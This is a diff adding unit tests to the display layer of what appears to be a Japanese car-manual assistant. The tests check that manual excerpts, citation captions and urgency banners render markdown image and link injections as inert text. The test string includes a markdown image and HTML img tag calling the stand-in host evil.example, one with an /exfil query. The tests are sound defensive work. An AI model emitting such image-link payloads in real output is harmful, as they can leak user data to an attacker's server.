@@ -86,3 +86,27 @@ def test_citation_caption_and_assets():
     assert view.asset_path("data/icons/missing.svg") is None and view.asset_path(None) is None
     card = view.vehicle_card("kaiwa-trek-4wd-2020")
     assert card["title"] == "カイワ自動車 トレック 4WD" and card["subtitle"] == "2020年式 G グレード" and card["image"]
+
+
+HOSTILE = "![x](http://evil.example/exfil?d=1) <img src=http://evil.example/a> https://evil.example www.evil.example"
+
+
+def _inert(markdown: str) -> None:
+    from markdown_it import MarkdownIt
+
+    page = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)
+    assert "<img" not in page and "<a " not in page and "://" not in markdown and "www." not in markdown
+
+
+def test_manual_text_in_citations_and_excerpts_never_renders_images_or_links():
+    source = {"section": "ABS [警告灯](http://evil.example)", "page": 413, "score": 0.8,
+              "content": "点灯したら点検。\n" + HOSTILE + "\n- 手順1\n- 手順2"}
+    details = view.source_details(source)
+    _inert(details)
+    assert details.startswith("**「ABS \\[警告灯\\]\\(http:／／evil.example)」 p.413**（スコア 0.80）")
+    assert "点灯したら点検。\\\n" in details and "- 手順1\n- 手順2" in details
+    caption = view.citation_caption([source])
+    _inert(caption)
+    assert "evil" in caption  # the section title is shown, as text
+    banner = view.urgency_banner(UrgencyInfo(level="critical", can_drive=False, reasons=[HOSTILE]))
+    _inert(banner.text)
